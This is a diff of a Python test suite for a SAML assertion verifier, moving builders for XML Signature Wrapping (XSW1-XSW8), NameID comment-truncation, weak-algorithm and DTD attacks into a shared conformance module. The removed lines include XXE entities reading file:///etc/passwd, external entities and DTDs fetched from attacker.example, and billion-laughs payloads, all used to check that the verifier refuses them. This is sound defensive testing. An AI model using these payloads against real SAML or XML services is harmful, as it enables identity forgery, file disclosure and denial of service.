@@ -2,13 +2,15 @@
 code, and none raises. Each case names its source.
 
 The assertions are built and signed here with a key generated in the test (signxml's XMLSigner); the
-attacks then rearrange or replace what was signed, as the cited papers and advisories describe.
+attacks then rearrange or replace what was signed, as the cited papers and advisories describe. The attack
+builders are shared with the conformance corpus (``attest conformance generate --saml``):
+:mod:`attest.conformance.saml_attacks`, given this test's kit (its assertions, signer and keys).
 """
 
 from __future__ import annotations
 
-import copy
 import random
+import re
 import time
 from typing import Any
 
@@ -17,13 +19,13 @@ from cryptography.hazmat.primitives.asymmetric import rsa
 from lxml import etree
 
 from attest import ERROR_CODES, TrustStoreError, VerifyContext
+from attest.conformance import saml_attacks as sa
 from attest.saml import verify_saml
 from attest.trust import SamlIssuer, TrustStore
 
 from .support.saml import (
     ASSERTION_ID,
     AUDIENCE,
-    DS_NS,
     ISSUER,
     PATIENT,
     PRACTITIONER,
@@ -33,9 +35,7 @@ from .support.saml import (
     attributes,
     b64,
     certificate,
-    instant,
     issuer_cert,
-    pem,
     resign,
     rsa_key,
     sign,
@@ -45,11 +45,44 @@ from .support.saml import (
 from .support.tokens import NOW
 
 PROFILE = "xua-saml-1.0"
-#: the identity an attacker wants to be (a valid F-number of the data model's examples, RULES.md d.7)
-VICTIM = "03117000205"
-EVIL_ID = "_evil"
-SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
 TOKEN_LEVEL = frozenset(c for c, row in ERROR_CODES.items() if row.stage == "token")
+
+
+class _Kit:
+    """The builders' view of this test's assertions (tests/support/saml.py): see
+    :class:`attest.conformance.saml_attacks.SamlKit`."""
+
+    assertion_id, issuer, now, practitioner = ASSERTION_ID, ISSUER, NOW, PRACTITIONER
+
+    @property
+    def attacker(self) -> tuple[Any, Any]:
+        return rsa_key(2048, "attacker"), attacker_cert()
+
+    @property
+    def weak(self) -> tuple[Any, Any]:
+        weak = rsa_key(1024, "weak")
+        return weak, certificate(weak)
+
+    def unsigned(self, *, name_id: str | None = None, assertion_id: str | None = None,
+                 attributes: Any = (), placeholder: bool = True) -> Any:
+        attrs = _attributes()
+        for raw in attributes:  # replaces the attribute of the same Name, or is added
+            name = re.search(r'Name="([^"]+)"', raw).group(1)
+            attrs[next((k for k, v in attrs.items() if f'Name="{name}"' in v), name)] = raw
+        return etree.fromstring(assertion_xml(name_id=name_id or PRACTITIONER, assertion_id=assertion_id or ASSERTION_ID,
+                                              attrs=attrs, placeholder=placeholder))
+
+    def sign(self, element: Any, *, enveloping: bool = False, **kw: Any) -> Any:
+        from signxml import SignatureConstructionMethod
+
+        return sign(element, method=SignatureConstructionMethod.enveloping if enveloping else None, **kw)
+
+    def resign(self, element: Any) -> Any:
+        return resign(element)
+
+
+_attributes = attributes
+KIT = _Kit()
 
 
 def _verify(data: Any, trust: TrustStore | None = None, **ctx: Any) -> Any:
@@ -73,183 +106,30 @@ def _xml(el: Any) -> bytes:
     return out
 
 
-def _signed() -> Any:
-    """The original, validly signed assertion (an element; the attacks copy and rearrange it)."""
-    return sign(assertion_xml())
-
-
-def _evil(assertion_id: str) -> Any:
-    """The assertion the attacker wants accepted: unsigned, naming the victim."""
-    return etree.fromstring(assertion_xml(name_id=VICTIM, assertion_id=assertion_id, placeholder=False))
-
-
-def _signature(el: Any) -> Any:
-    return el.find(f"{{{DS_NS}}}Signature")
-
-
-def _advice(parent: Any, child: Any) -> None:
-    """Put ``child`` into a saml:Advice of ``parent`` (Advice may legitimately hold assertions)."""
-    advice = etree.SubElement(parent, f"{{{SAML_NS}}}Advice")
-    advice.append(child)
-
-
 def test_the_original_is_accepted() -> None:
-    d = _verify(_xml(_signed()))
+    d = _verify(_xml(sa.signed(KIT)))
     assert d.permitted, d.errors
     assert d.attestation["practitioner"]["identifier"]["id"] == PRACTITIONER
 
 
 # --- XML Signature Wrapping ------------------------------------------------------------------------------
 # Source: J. Somorovsky, A. Mayer, J. Schwenk, M. Kampmann, M. Jensen, "On Breaking SAML: Be Whoever You
-# Want to Be", USENIX Security 2012, section 5 (XSW1-XSW8; the naming follows the SAML Raider tool). XSW1 and
-# XSW2 wrap a signed Response; XSW3-XSW8 wrap a signed Assertion inside a Response. Our input is one
-# Assertion, so each is given both as in the paper (a Response: refused as not an assertion) and adapted
-# with the attacker's assertion as the root, keeping the original's ID (duplicate IDs) or not (the signature
-# then covers something other than the root).
+# Want to Be", USENIX Security 2012, section 5 (XSW1-XSW8; the naming follows the SAML Raider tool). The builders
+# (attest.conformance.saml_attacks) give each as in the paper and adapted to one Assertion as the input.
 
-def _response(*children: Any, response_id: str = "_resp") -> Any:
-    resp = etree.fromstring(
-        f'<samlp:Response xmlns:samlp="{SAMLP_NS}" xmlns:saml="{SAML_NS}" ID="{response_id}" Version="2.0" '
-        f'IssueInstant="{instant(NOW)}"><saml:Issuer>{ISSUER}</saml:Issuer>'
-        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
-        '</samlp:Response>')
-    for c in children:
-        resp.append(c)
-    return resp
-
-
-def _signed_response() -> Any:
-    resp = _response(_signed())
-    resp.insert(1, etree.fromstring(f'<ds:Signature xmlns:ds="{DS_NS}" Id="placeholder"/>'))
-    return sign(resp)
-
-
-def xsw1() -> bytes:
-    # XSW1: a new (evil) Response is the root; the original signed Response is copied into its Signature
-    evil = _response(_evil(EVIL_ID), response_id="_evil-resp")
-    original = _signed_response()
-    sig = copy.deepcopy(_signature(original))
-    sig.append(original)
-    evil.insert(1, sig)
-    return _xml(evil)
-
-
-def xsw2() -> bytes:
-    # XSW2: as XSW1, the original Response placed before the signature (a detached signature)
-    evil = _response(_evil(EVIL_ID), response_id="_evil-resp")
-    original = _signed_response()
-    sig = copy.deepcopy(_signature(original))
-    evil.insert(1, original)
-    evil.insert(2, sig)
-    return _xml(evil)
-
-
-def xsw3_response() -> bytes:
-    # XSW3 as in the paper: an evil assertion with the original's ID before the original, in a Response
-    return _xml(_response(_evil(ASSERTION_ID), _signed()))
-
-
-def xsw3() -> bytes:
-    # XSW3 adapted: the evil assertion (the original's ID) is the root; the original follows inside it
-    evil = _evil(ASSERTION_ID)
-    _advice(evil, _signed())
-    return _xml(evil)
-
-
-def xsw4() -> bytes:
-    # XSW4: the evil assertion wraps the original (the original a child of the evil one)
-    evil = _evil(ASSERTION_ID)
-    evil.append(_signed())
-    return _xml(evil)
-
-
-def xsw4_new_id() -> bytes:
-    # XSW4 with a fresh root ID: the original's signature now sits below the root
-    evil = _evil(EVIL_ID)
-    evil.append(_signed())
-    return _xml(evil)
-
-
-def xsw5() -> bytes:
-    # XSW5: the evil assertion carries the original's signature; the original (signature removed) is
-    # appended to the document (here: inside the root, as it must have one)
-    original = _signed()
-    sig = _signature(original)
-    original.remove(sig)
-    evil = _evil(ASSERTION_ID)
-    evil.insert(1, sig)
-    _advice(evil, original)
-    return _xml(evil)
-
-
-def xsw6() -> bytes:
-    # XSW6: the evil assertion carries the original's signature, and the original assertion (signature
-    # removed) is put inside that signature
-    original = _signed()
-    sig = _signature(original)
-    original.remove(sig)
-    sig.append(original)
-    evil = _evil(ASSERTION_ID)
-    evil.insert(1, sig)
-    return _xml(evil)
-
-
-def xsw7() -> bytes:
-    # XSW7: an extension element (the paper uses samlp:Extensions, which schema validation lets through)
-    # holding the original; the evil assertion next to it, with the signature
-    original = _signed()
-    sig = copy.deepcopy(_signature(original))
-    evil = _evil(ASSERTION_ID)
-    ext = etree.SubElement(evil, "{urn:example:ext}Extensions")
-    ext.append(original)
-    evil.insert(1, sig)
-    return _xml(evil)
-
-
-def xsw8() -> bytes:
-    # XSW8: the evil assertion carries the signature, whose ds:Object holds the original (signature removed)
-    original = _signed()
-    sig = _signature(original)
-    original.remove(sig)
-    obj = etree.SubElement(sig, f"{{{DS_NS}}}Object")
-    obj.append(original)
-    evil = _evil(ASSERTION_ID)
-    evil.insert(1, sig)
-    return _xml(evil)
-
-
-def xsw_id_attribute() -> bytes:
-    # Variant of XSW3 against ID lookup: the nested original carries its ID as "Id" (signxml looks up "Id"
-    # before "ID" by default), so a check for duplicate "ID" attributes alone would miss it
-    original = _signed()
-    del original.attrib["ID"]
-    original.set("Id", ASSERTION_ID)
-    evil = _evil(ASSERTION_ID)
-    evil.insert(1, copy.deepcopy(_signature(original)))
-    _advice(evil, original)
-    return _xml(evil)
-
-
-def xsw_xml_id() -> bytes:
-    # The same with xml:id on an element of the evil assertion
-    original = _signed()
-    original[2].set("{http://www.w3.org/XML/1998/namespace}id", ASSERTION_ID)
-    return _xml(original)
-
-
-XSW = {"XSW1": (xsw1, "invalid_saml"), "XSW2": (xsw2, "invalid_saml"),
-       "XSW3-response": (xsw3_response, "invalid_saml"), "XSW3": (xsw3, "invalid_signature"),
-       "XSW4": (xsw4, "invalid_signature"), "XSW4-new-id": (xsw4_new_id, "invalid_signature"),
-       "XSW5": (xsw5, "invalid_signature"), "XSW6": (xsw6, "invalid_signature"),
-       "XSW7": (xsw7, "invalid_signature"), "XSW8": (xsw8, "invalid_signature"),
-       "XSW-Id-attribute": (xsw_id_attribute, "invalid_signature"),
-       "XSW-xml-id": (xsw_xml_id, "invalid_signature")}
+XSW = {"XSW1": (sa.xsw1, "invalid_saml"), "XSW2": (sa.xsw2, "invalid_saml"),
+       "XSW3-response": (sa.xsw3_response, "invalid_saml"), "XSW3": (sa.xsw3, "invalid_signature"),
+       "XSW4": (sa.xsw4, "invalid_signature"), "XSW4-new-id": (sa.xsw4_new_id, "invalid_signature"),
+       "XSW5": (sa.xsw5, "invalid_signature"), "XSW6": (sa.xsw6, "invalid_signature"),
+       "XSW7": (sa.xsw7, "invalid_signature"), "XSW8": (sa.xsw8, "invalid_signature"),
+       "XSW-Id-attribute": (sa.xsw_id_attribute, "invalid_signature"),
+       "XSW-xml-id": (sa.xsw_xml_id, "invalid_signature")}
 
 
 @pytest.mark.parametrize("name", list(XSW))
 def test_signature_wrapping(name: str) -> None:
     build, code = XSW[name]
-    refused(build(), code)
+    refused(build(KIT), code)
 
 
 # --- comments inside NameID ------------------------------------------------------------------------------
@@ -259,19 +139,9 @@ def test_signature_wrapping(name: str) -> None:
 # added after signing keeps the signature valid; a reader that takes the text before the comment reads a
 # truncated identity.
 
-def _with_comment(name_id_signed: str, before: str, after: str) -> bytes:
-    el = sign(assertion_xml(name_id=name_id_signed))
-    name_id = el.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID")
-    name_id.text = before
-    comment = etree.Comment("")
-    comment.tail = after
-    name_id.append(comment)
-    return _xml(el)
-
-
 def test_comment_in_name_id_does_not_truncate_the_identity() -> None:
     # signed for the attacker's longer identifier; the naive reader would see the victim's F-number
-    data = _with_comment(PRACTITIONER + "1", PRACTITIONER, "1")
+    data = sa.comment_truncating_name_id(KIT)
     assert etree.fromstring(data).find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID").text == PRACTITIONER
     d = _verify(data, authenticated_pid=PRACTITIONER)
     assert not d.permitted
@@ -281,21 +151,14 @@ def test_comment_in_name_id_does_not_truncate_the_identity() -> None:
 
 
 def test_comment_in_name_id_keeps_the_signed_value() -> None:
-    d = _verify(_with_comment(PRACTITIONER, PRACTITIONER[:5], PRACTITIONER[5:]))
+    d = _verify(sa.comment_splitting_name_id(KIT))
     assert d.permitted, d.errors
     assert d.attestation["practitioner"]["identifier"]["id"] == PRACTITIONER
 
 
 def test_comment_in_an_attribute_value_is_not_a_truncation() -> None:
     # the same class of attack on an attribute (the HPR number)
-    el = sign(assertion_xml())
-    for av in el.iter(f"{{{SAML_NS}}}AttributeValue"):
-        if av.text == "9144900":
-            av.text = "914"
-            comment = etree.Comment("x")
-            comment.tail = "4900"
-            av.append(comment)
-    d = _verify(_xml(el))
+    d = _verify(sa.comment_in_attribute_value(KIT, "9144900"))
     assert d.permitted, d.errors
     assert d.attestation["practitioner"]["hpr_nr"]["id"] == "9144900"
 
@@ -307,46 +170,33 @@ def test_comment_in_an_attribute_value_is_not_a_truncation() -> None:
 # Cheat Sheet ("Validate Signature ... is the one expected").
 
 def test_unsigned_assertion() -> None:
-    refused(assertion_xml(placeholder=False), "invalid_signature")
+    refused(sa.unsigned(KIT), "invalid_signature")
 
 
 def test_signature_removed() -> None:
-    el = _signed()
-    el.remove(_signature(el))
-    refused(_xml(el), "invalid_signature")
+    refused(sa.signature_removed(KIT), "invalid_signature")
 
 
 def test_reference_to_a_child_element() -> None:
-    xml = etree.fromstring(assertion_xml())
-    xml.find(f"{{{SAML_NS}}}Subject").set("ID", "_subject")
-    refused(_xml(sign(xml, reference_uri="#_subject")), "invalid_signature")
+    refused(sa.reference_to_a_child(KIT), "invalid_signature")
 
 
 def test_reference_to_the_whole_document() -> None:
     # URI="" covers the whole document, not the assertion by its ID (genuinely signed after the edit)
-    el = _signed()
-    el.find(f".//{{{DS_NS}}}Reference").set("URI", "")
-    refused(_xml(resign(el)), "invalid_signature")
+    refused(sa.reference_to_the_whole_document(KIT), "invalid_signature")
 
 
 def test_external_reference_uri() -> None:
     # an external Reference (a detached signature over a URL): nothing is ever fetched
-    el = _signed()
-    el.find(f".//{{{DS_NS}}}Reference").set("URI", "http://attacker.example/assertion.xml")
-    refused(_xml(resign(el)), "invalid_signature")
+    refused(sa.external_reference(KIT), "invalid_signature")
 
 
 def test_duplicate_ids() -> None:
-    el = _signed()
-    extra = etree.SubElement(el, f"{{{SAML_NS}}}Advice")
-    extra.set("ID", ASSERTION_ID)
-    refused(_xml(el), "invalid_signature")
+    refused(sa.duplicate_ids(KIT), "invalid_signature")
 
 
 def test_two_signatures() -> None:
-    el = _signed()
-    el.append(copy.deepcopy(_signature(el)))
-    refused(_xml(el), "invalid_signature")
+    refused(sa.two_signatures(KIT), "invalid_signature")
 
 
 @pytest.mark.parametrize("algorithm", ["http://www.w3.org/TR/1999/REC-xslt-19991116",
@@ -356,30 +206,20 @@ def test_extra_transforms(algorithm: str) -> None:
     # Source: XML Signature Best Practices (W3C Note 2013) 2.1.1-2.1.3 (XSLT, XPath transforms as attack
     # surface). signxml skips transforms it does not know, so the digest still matches: our allow-list
     # (enveloped-signature, then exclusive c14n) is what refuses it. Genuinely signed after the edit.
-    el = _signed()
-    transforms = el.find(f".//{{{DS_NS}}}Transforms")
-    etree.SubElement(transforms, f"{{{DS_NS}}}Transform", Algorithm=algorithm)
-    refused(_xml(resign(el)), "invalid_signature")
+    refused(sa.extra_transform(KIT, algorithm), "invalid_signature")
 
 
 def test_transforms_without_enveloped_signature() -> None:
-    el = _signed()
-    transforms = el.find(f".//{{{DS_NS}}}Transforms")
-    transforms.remove(transforms[0])
-    refused(_xml(resign(el)), "invalid_signature")
+    refused(sa.transforms_without_enveloped_signature(KIT), "invalid_signature")
 
 
 def test_signed_content_changed() -> None:
-    el = _signed()
-    el.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID").text = VICTIM
-    d = refused(_xml(el), "invalid_signature")
+    d = refused(sa.signed_content_changed(KIT), "invalid_signature")
     assert "digest" in d.errors[0].message
 
 
 def test_assertion_inside_a_soap_envelope() -> None:
-    env = etree.fromstring('<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header/></s:Envelope>')
-    env[0].append(_signed())
-    refused(_xml(env), "invalid_saml")
+    refused(sa.assertion_inside_a_soap_envelope(KIT), "invalid_saml")
 
 
 # --- the key: KeyInfo is not trusted ---------------------------------------------------------------------
@@ -388,17 +228,16 @@ def test_assertion_inside_a_soap_envelope() -> None:
 # (pysaml2: signatures accepted with any key in KeyInfo when xmlsec's default verification was used).
 
 def test_key_info_certificate_is_not_the_pinned_one() -> None:
-    d = refused(_xml(sign(assertion_xml(), key=rsa_key(2048, "attacker"), cert=attacker_cert())),
-                "invalid_signature")
+    d = refused(sa.foreign_key_info_certificate(KIT), "invalid_signature")
     assert "pinned" in d.errors[0].message
 
 
 def test_attacker_key_with_the_pinned_certificate_in_key_info() -> None:
-    refused(_xml(sign(assertion_xml(), key=rsa_key(2048, "attacker"), cert=issuer_cert())), "invalid_signature")
+    refused(sa.attacker_key_with_the_pinned_certificate(KIT, issuer_cert()), "invalid_signature")
 
 
 def test_attacker_key_without_key_info() -> None:
-    refused(_xml(sign(assertion_xml(), key=rsa_key(2048, "attacker"), include_cert=False)), "invalid_signature")
+    refused(sa.attacker_key_without_key_info(KIT), "invalid_signature")
 
 
 def test_valid_signature_without_key_info_uses_the_pinned_certificate() -> None:
@@ -406,26 +245,16 @@ def test_valid_signature_without_key_info_uses_the_pinned_certificate() -> None:
 
 
 def test_key_value_in_key_info() -> None:
-    el = _signed()
-    key_info = el.find(f".//{{{DS_NS}}}KeyInfo")
-    etree.SubElement(key_info, f"{{{DS_NS}}}KeyValue")
-    refused(_xml(el), "invalid_signature")
+    refused(sa.key_value_in_key_info(KIT), "invalid_signature")
 
 
 def test_retrieval_method_in_key_info() -> None:
     # an external reference for the key: never followed
-    el = _signed()
-    key_info = el.find(f".//{{{DS_NS}}}KeyInfo")
-    etree.SubElement(key_info, f"{{{DS_NS}}}RetrievalMethod", URI="http://attacker.example/key.cer")
-    refused(_xml(el), "invalid_signature")
+    refused(sa.retrieval_method_in_key_info(KIT), "invalid_signature")
 
 
 def test_two_certificates_in_key_info() -> None:
-    el = _signed()
-    x509_data = el.find(f".//{{{DS_NS}}}X509Data")
-    extra = etree.SubElement(x509_data, f"{{{DS_NS}}}X509Certificate")
-    extra.text = "".join(pem(attacker_cert()).splitlines()[1:-1])
-    refused(_xml(el), "invalid_signature")
+    refused(sa.two_certificates_in_key_info(KIT), "invalid_signature")
 
 
 def test_certificate_expired_at_the_evaluation_time() -> None:
@@ -439,11 +268,9 @@ def test_certificate_expired_at_the_evaluation_time() -> None:
 # on SignatureConfiguration.location.
 
 def test_enveloping_signature() -> None:
-    from signxml import SignatureConstructionMethod
-
-    el = sign(assertion_xml(placeholder=False), method=SignatureConstructionMethod.enveloping)
-    assert el.tag == f"{{{DS_NS}}}Signature"
-    refused(_xml(el), "invalid_signature")
+    data = sa.enveloping_signature(KIT)
+    assert etree.fromstring(data).tag == f"{{{sa.DS_NS}}}Signature"
+    refused(data, "invalid_signature")
 
 
 # --- DTDs, entities, XXE ---------------------------------------------------------------------------------
@@ -451,25 +278,7 @@ def test_enveloping_signature() -> None:
 # Entity Expansion"); Python's documentation "XML vulnerabilities" (defusedxml): billion laughs, quadratic
 # blowup, external entity expansion, DTD retrieval.
 
-def _doctype(doctype: str, name_id: str = PRACTITIONER) -> bytes:
-    body = signed_assertion().replace(f"<saml:NameID>{PRACTITIONER}<".encode(), f"<saml:NameID>{name_id}<".encode())
-    return doctype.encode() + body
-
-
-DTD_ATTACKS = {
-    "xxe-file": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
-    "xxe-http": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', "&xxe;"),
-    "xxe-parameter-entity": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'),
-    "billion-laughs": _doctype(
-        '<!DOCTYPE saml:Assertion [<!ENTITY lol "lol">'
-        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
-        + "]>", "&lol9;"),
-    "quadratic-blowup": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY a "' + "x" * 20000 + '">]>', "&a;" * 100),
-    "internal-dtd": _doctype('<!DOCTYPE saml:Assertion [<!ELEMENT saml:Assertion ANY>]>'),
-    "external-dtd": _doctype('<!DOCTYPE saml:Assertion SYSTEM "http://attacker.example/saml.dtd">'),
-    "doctype-only": _doctype("<!DOCTYPE saml:Assertion>"),
-    "doctype-after-declaration": b'<?xml version="1.0" encoding="UTF-8"?>\n' + _doctype("<!DOCTYPE x>"),
-}
+DTD_ATTACKS = {name: sa.dtd_attack(KIT, name) for name in sa.DTD_DOCTYPES}
 
 
 @pytest.mark.parametrize("name", list(DTD_ATTACKS))
@@ -487,44 +296,34 @@ def test_dtd_in_base64_input() -> None:
 
 def test_dtd_in_utf16_is_not_let_through() -> None:
     # a byte scan for "<!DOCTYPE" must not be dodged by another encoding
+    refused(sa.dtd_in_utf16(KIT), "invalid_saml")
     text = '<?xml version="1.0" encoding="UTF-16"?>' + DTD_ATTACKS["xxe-file"].decode()
-    refused(text.encode("utf-16"), "invalid_saml")
     refused(text.encode("utf-16-le"), "invalid_saml")
 
 
 def test_declared_latin1_encoding() -> None:
-    refused(b'<?xml version="1.0" encoding="ISO-8859-1"?>' + signed_assertion(), "invalid_saml")
+    refused(sa.declared_latin1(KIT), "invalid_saml")
 
 
 def test_processing_instruction() -> None:
-    refused(b'<?xml-stylesheet href="http://attacker.example/x.xsl"?>' + signed_assertion(), "invalid_saml")
+    refused(sa.processing_instruction(KIT), "invalid_saml")
 
 
 def test_xxe_inside_an_hl7_attribute_value() -> None:
     # the XML inside an attribute value is parsed with the same hardening (the signature is valid here)
-    role = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:role"><saml:AttributeValue>'
-            '&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;]&gt;&lt;Role xmlns="urn:hl7-org:v3" '
-            'code="&amp;x;" codeSystem="urn:oid:2.16.578.1.12.4.1.1.9060"/&gt;</saml:AttributeValue></saml:Attribute>')
-    d = refused(signed_assertion(attrs=attributes(role=role)), "invalid_field", token_level=False)
+    d = refused(sa.with_attribute(KIT, sa.xxe_role()), "invalid_field", token_level=False)
     assert any(f.code == "invalid_field" and "role" in f.path for f in d.errors)
     assert "passwd" not in str(d.attestation)
 
 
 def test_billion_laughs_inside_an_hl7_attribute_value() -> None:
-    lol = "".join(f"&lt;!ENTITY l{i} \"{('&amp;l' + str(i - 1) + ';') * 10}\"&gt;" for i in range(1, 9))
-    role = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:role"><saml:AttributeValue>'
-            f'&lt;!DOCTYPE r [&lt;!ENTITY l0 "lol"&gt;{lol}]&gt;&lt;Role code="&amp;l8;"/&gt;'
-            '</saml:AttributeValue></saml:Attribute>')
-    refused(signed_assertion(attrs=attributes(role=role)), "invalid_field", token_level=False)
+    refused(sa.with_attribute(KIT, sa.billion_laughs_role()), "invalid_field", token_level=False)
 
 
 def test_xinclude_is_never_processed() -> None:
     # Source: OWASP XXE Prevention Cheat Sheet (XInclude). The element is read as XML where text is
     # expected, so the attribute is refused, and nothing is included
-    subject_id = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:subject-id"><saml:AttributeValue>'
-                  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
-                  '</saml:AttributeValue></saml:Attribute>')
-    d = refused(signed_assertion(attrs=attributes(subject_id=subject_id)), "invalid_field", token_level=False)
+    d = refused(sa.with_attribute(KIT, sa.xinclude_subject_id()), "invalid_field", token_level=False)
     assert "root:" not in str(d.to_dict())
 
 
@@ -533,9 +332,7 @@ def test_xinclude_is_never_processed() -> None:
 # the depth ..."); lxml's huge_tree option (off here).
 
 def test_over_the_byte_cap() -> None:
-    big = ('<saml:Attribute Name="urn:example:pad"><saml:AttributeValue>' + "x" * 70000
-           + "</saml:AttributeValue></saml:Attribute>")
-    refused(assertion_xml(attrs={**attributes(), "pad": big}), "invalid_saml")
+    refused(sa.over_the_byte_cap(KIT), "invalid_saml")
 
 
 def test_megabytes_are_refused_before_parsing() -> None:
@@ -548,21 +345,15 @@ def test_megabytes_are_refused_before_parsing() -> None:
 
 
 def test_too_deep() -> None:
-    deep = ('<saml:Attribute Name="urn:example:deep"><saml:AttributeValue>' + "<x>" * 200 + "</x>" * 200
-            + "</saml:AttributeValue></saml:Attribute>")
-    refused(signed_assertion(attrs={**attributes(), "deep": deep}), "invalid_saml")
+    refused(sa.too_deep(KIT), "invalid_saml")
 
 
 def test_too_many_elements() -> None:
-    many = ('<saml:Attribute Name="urn:example:many"><saml:AttributeValue>' + "<x/>" * 2500
-            + "</saml:AttributeValue></saml:Attribute>")
-    refused(signed_assertion(attrs={**attributes(), "many": many}), "invalid_saml")
+    refused(sa.too_many_elements(KIT), "invalid_saml")
 
 
 def test_huge_hl7_attribute_value() -> None:
-    role = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:role"><saml:AttributeValue>&lt;Role code="LE" '
-            f'displayName="{"x" * 5000}"/&gt;</saml:AttributeValue></saml:Attribute>')
-    refused(signed_assertion(attrs=attributes(role=role)), "invalid_field", token_level=False)
+    refused(sa.with_attribute(KIT, sa.huge_role()), "invalid_field", token_level=False)
 
 
 # --- weak algorithms and keys ----------------------------------------------------------------------------
@@ -570,34 +361,30 @@ def test_huge_hl7_attribute_value() -> None:
 # Best Practices (W3C Working Group Note, 2013) section 2.4; signxml's defaults (SHA-1 refused).
 
 def test_sha1_signature_method() -> None:
-    refused(_xml(sign(assertion_xml(), signature_algorithm="rsa-sha1")), "unsupported_algorithm")
+    refused(sa.sha1_signature_method(KIT), "unsupported_algorithm")
 
 
 def test_sha1_digest() -> None:
-    refused(_xml(sign(assertion_xml(), digest_algorithm="sha1")), "unsupported_algorithm")
+    refused(sa.sha1_digest(KIT), "unsupported_algorithm")
 
 
 def test_sha1_everywhere() -> None:
-    refused(_xml(sign(assertion_xml(), signature_algorithm="rsa-sha1", digest_algorithm="sha1")),
-            "unsupported_algorithm")
+    refused(sa.sha1_everywhere(KIT), "unsupported_algorithm")
 
 
 def test_hmac_signature_method() -> None:
-    el = _signed()
-    el.find(f".//{{{DS_NS}}}SignatureMethod").set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
-    refused(_xml(el), "unsupported_algorithm")
+    refused(sa.hmac_signature_method(KIT), "unsupported_algorithm")
 
 
 @pytest.mark.parametrize("c14n", ["http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
                                   "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
                                   "http://www.w3.org/2006/12/xml-c14n11"])
 def test_other_canonicalization(c14n: str) -> None:
-    refused(_xml(sign(assertion_xml(), c14n=c14n)), "unsupported_algorithm", "invalid_signature")
+    refused(sa.other_canonicalization(KIT, c14n), "unsupported_algorithm", "invalid_signature")
 
 
 def test_rsa_1024_signature() -> None:
-    weak = rsa_key(1024, "weak")
-    refused(_xml(sign(assertion_xml(), key=weak, cert=certificate(weak))), "invalid_signature")
+    refused(sa.rsa_1024_signature(KIT), "invalid_signature")
 
 
 def test_rsa_1024_certificate_is_refused_by_the_trust_store() -> None:
